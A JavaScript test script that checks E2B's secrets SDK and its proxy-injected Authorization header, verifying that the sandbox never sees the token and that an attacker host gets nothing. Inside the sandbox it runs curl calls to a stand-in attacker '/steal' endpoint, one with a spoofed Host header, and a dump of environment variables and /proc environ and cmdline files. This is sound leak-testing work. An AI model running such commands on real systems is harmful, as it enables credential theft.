// E2B's secrets through the unmodified `e2b` SDK: a secret made, listed, read and updated (its value
// never comes back), then used by a sandbox's header transform (network.rules, Secret.fill) that the
// Bench's proxy resolves at egress: the API gets the token, the sandbox never holds it, an echo of it
// comes back masked, the attacker host gets nothing of it, and once the secret is destroyed the next
// request is refused. The value is read from stdin (the first line), never from the arguments or the
// environment, and never printed. One JSON object per step on stdout, for the Go test to check.
import { Sandbox, Secret } from "e2b";
import { createInterface } from "node:readline";

const [template, API, ATT, name] = process.argv.slice(2);
const lines = createInterface({ input: process.stdin })[Symbol.asyncIterator]();
const token = (await lines.next()).value;
const out = (step, value) => console.log(JSON.stringify({ step, value }));
const attempt = async (step, fn) => {
  try {
    const value = await fn();
    out(step, { ok: true, value });
    return value;
  } catch (e) {
    out(step, { ok: false, error: `${e.name}: ${e.message}` });
    return undefined;
  }
};
// Metadata only: what a SecretInfo holds (never a value).
const info = (s) => ({ secretId: s.secretId, name: s.name, version: s.version, metadata: s.metadata, dates: s.createdAt instanceof Date && s.updatedAt >= s.createdAt });
const rules = (secret) => ({ [API]: [{ transform: { headers: { Authorization: "Bearer " + Secret.fill(secret) } } }] });
// A command's output and exit code, a failing one too.
const sh = async (cmd) => {
  const r = await sandbox.commands.run(`${cmd}; echo " rc=$?"`, { timeoutMs: 60_000 });
  return r.stdout + r.stderr;
};

const made = await attempt("create-secret", async () => info(await Secret.create(name, token, { metadata: { purpose: "test" } })));
if (!made) process.exit(0);
// A second, so that a list of pages of one has two.
await attempt("create-second", async () => info(await Secret.create(name + "-second", "not the token")));
await attempt("list", async () => {
  // A page at a time, as the SDK's Paginator reads X-Next-Token.
  const p = Secret.list({ limit: 1 });
  const names = [];
  let pages = 0;
  while (p.hasNext && pages < 100) {
    names.push(...(await p.nextItems()).map((s) => s.name));
    pages++;
  }
  return { mine: names.includes(name), pages, sorted: names.every((n, i) => i === 0 || names[i - 1] < n) };
});
await attempt("info", async () => [info(await Secret.getInfo(name)), info(await Secret.getInfo(made.secretId))]);
await attempt("exists", async () => [await Secret.exists(name), await Secret.exists("no-such-secret")]);
await attempt("info-missing", async () => Secret.getInfo("no-such-secret"));
await attempt("taken", async () => Secret.create(name, "another value"));
await attempt("update", async () => info(await Secret.update(made.secretId, token, { metadata: { purpose: "test", rotated: "yes" } })));
await attempt("update-missing", async () => Secret.update("no-such-secret", "x"));

// Refused creates: a bare *, and a secret that is none of this key's.
await attempt("bad-rule", async () => {
  const s = await Sandbox.create(template, { network: { rules: { "*": [{ transform: { headers: { A: "b" } } }] } } });
  await s.kill();
  return "created";
});
await attempt("unknown-secret", async () => {
  const s = await Sandbox.create(template, { network: { allowOut: [API], rules: rules("no-such-secret") } });
  await s.kill();
  return "created";
});

let sandbox;
await attempt("create", async () => {
  sandbox = await Sandbox.create(template, { timeoutMs: 600_000, network: { allowOut: [API, ATT], rules: rules(name) } });
  return sandbox.sandboxId;
});
if (!sandbox) process.exit(0);
// Nothing in the request: the proxy sets the header.
await attempt("api", () => sh(`curl -sS https://${API}/`));
await attempt("echo", () => sh(`curl -sS -i https://${API}/echo`));
// The attacker, allowed too: over HTTPS (a tunnel, -k: not the proxy's CA) and HTTP, no header set.
await attempt("attacker-https", () => sh(`curl -sSk https://${ATT}/steal`));
await attempt("attacker-http", () => sh(`curl -sS http://${ATT}/steal`));
await attempt("attacker-claims-api", () => sh(`curl -sSk https://${ATT}/steal -H "Host: ${API}"`));
await attempt("env", () => sh(`env; cat /proc/[0-9]*/environ | tr '\\0' '\\n'; cat /proc/[0-9]*/cmdline | tr '\\0' ' '`));
await attempt("info-sandbox", async () => (await sandbox.getInfo()).network);
// Rules are the create's: an update that sets them is refused, one that leaves them out keeps them.
await attempt("update-rules", () => sandbox.updateNetwork({ allowOut: [API, ATT], rules: rules(name) }));
await attempt("clear-rules", () => sandbox.updateNetwork({ allowOut: [API, ATT], rules: {} }));
await attempt("update-network", async () => {
  await sandbox.updateNetwork({ allowOut: [API, ATT] });
  return sh(`curl -sS https://${API}/`);
});

out("hold", sandbox.sandboxId);
await lines.next();

await attempt("destroy", async () => [await Secret.destroy(name), await Secret.destroy(name), await Secret.destroy(name + "-second")]);
await attempt("exists-after", () => Secret.exists(name));
await attempt("revoked", () => sh(`curl -sS -w ' %{http_code}' https://${API}/`));
await attempt("kill", () => sandbox.kill());
process.exit(0);
